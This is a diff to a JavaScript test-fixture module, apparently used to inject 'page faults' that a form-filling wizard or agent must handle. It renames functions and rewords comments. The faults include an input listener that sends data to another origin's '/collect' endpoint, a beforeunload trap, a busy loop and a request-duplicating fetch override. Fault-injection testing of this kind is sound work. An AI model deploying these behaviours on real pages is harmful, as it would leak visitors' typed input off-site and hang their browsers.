@@ -1,6 +1,6 @@
-// What a page can do that a visitor does not expect, one function a fault, in the order in which they are done.
-// Each gets the fault's value, and the wizard when a call of it is what is held up; false means: do not go on.
-import { settings } from "./base.js";
+// The faults of a page, one function each, in the order in which they are applied.
+// Each gets the fault's value, and the wizard when one of its calls is held up; false means: do not go on.
+import { settings } from "./component.js";
 import { address, form } from "./server.js";
 
 const never = () => new Promise(() => {});
@@ -26,7 +26,7 @@ async function captcha(_, wizard) {
   if (wizard) await solved;
 }
 
-// On opening, the server itself leads there.
+// On opening, the server itself redirects there.
 function login() {
   if (document.cookie.includes("signed_in=")) return undefined;
   location.replace(`/login?back=${encodeURIComponent(location.pathname + location.search)}`);
@@ -65,7 +65,7 @@ function crash() {
   return outside.offsetHeight;
 }
 
-function tellAll() {
+function exfiltrate() {
   const to = `${settings.otherOrigin}/collect`;
   document.addEventListener(
     "input",
@@ -80,7 +80,7 @@ function tellAll() {
 }
 
 // Every copy leaves at once; the page reads the answer to the last.
-function repeat(times) {
+function duplicateRequest(times) {
   const { fetch } = window;
   window.fetch = (url, init) => {
     window.fetch = fetch;
@@ -90,7 +90,7 @@ function repeat(times) {
   };
 }
 
-async function leave(_, wizard) {
+async function nativePost(_, wizard) {
   const fields = form("submitInquiry", await wizard.inquiry());
   const sender = append("form", { method: "post", action: `${address()}&form=1`, hidden: true });
   for (const [name, value] of fields) append("textarea", { name, value }, sender);
@@ -105,7 +105,7 @@ export const PAGE_FAULTS = {
   tall: () => {
     document.body.style.minHeight = "200000px";
   },
-  exfiltrate: tellAll,
+  exfiltrate,
   beforeunload: () => addEventListener("beforeunload", (event) => event.preventDefault()),
   "hidden-file-input": hiddenFile,
   download,
@@ -121,6 +121,6 @@ export const PAGE_FAULTS = {
   "busy-loop": () => {
     for (;;);
   },
-  "duplicate-request": repeat,
-  "native-post": leave,
+  "duplicate-request": duplicateRequest,
+  "native-post": nativePost,
 };
